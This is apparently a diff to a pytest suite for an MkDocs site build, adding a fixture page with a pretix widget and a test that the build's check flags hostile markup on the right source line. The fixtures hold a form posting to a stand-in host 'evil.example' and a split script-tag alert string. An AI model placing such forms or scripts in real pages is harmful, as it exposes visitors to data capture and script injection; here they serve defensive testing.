@@ -80,7 +80,22 @@ jinja: true
 {{ "<scr" ~ "ipt>alert('jinja')</scr" ~ "ipt>" }}
 """
 
+# A page with a pretix box: our hook puts trusted markup into its Markdown; the check
+# reads the page's own source instead, and still finds the form below the box.
+WIDGET_PAGE = """\
+---
+title: Anmeldung
+---
+
+# Anmeldung
+
+{% include pretix-widget.html event="ki-zivil-11" %}
+
+<form action="https://evil.example/"><input name="x"></form>
+"""
+
 PAGE_PATH = "docs/de/beitraege/feindlich.md"
+WIDGET_PAGE_PATH = "docs/de/beitraege/anmeldung.md"
 EVENT_PATH = "events/de/aktiv.md"
 
 
@@ -108,7 +123,8 @@ def _project(target: Path, pages: dict[str, str]) -> Path:
 @pytest.fixture(scope="module")
 def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
     project = tmp_path_factory.mktemp("hostile") / "project"
-    config = _project(project, {PAGE_PATH: HOSTILE_PAGE, EVENT_PATH: HOSTILE_EVENT})
+    pages = {PAGE_PATH: HOSTILE_PAGE, WIDGET_PAGE_PATH: WIDGET_PAGE, EVENT_PATH: HOSTILE_EVENT}
+    config = _project(project, pages)
     return run_mkdocs_build(config, project / "site", env={"SITE_NOW": FIXTURE_NOW})
 
 
@@ -149,6 +165,11 @@ def test_findings_in_an_event_body_name_the_event_file(
 ) -> None:
     line = line_of(HOSTILE_EVENT, needle)
     assert f"{EVENT_PATH}:{line}: {key}: " in hostile_build.output
+
+
+def test_a_page_with_a_pretix_box_is_checked_on_its_source(hostile_build: BuildResult) -> None:
+    reported = re.findall(rf"{re.escape(WIDGET_PAGE_PATH)}:(\d+): (\S+): ", hostile_build.output)
+    assert reported == [(str(line_of(WIDGET_PAGE, "<form")), "<form>")]
 
 
 def test_message_says_what_to_use_instead(hostile_build: BuildResult) -> None:
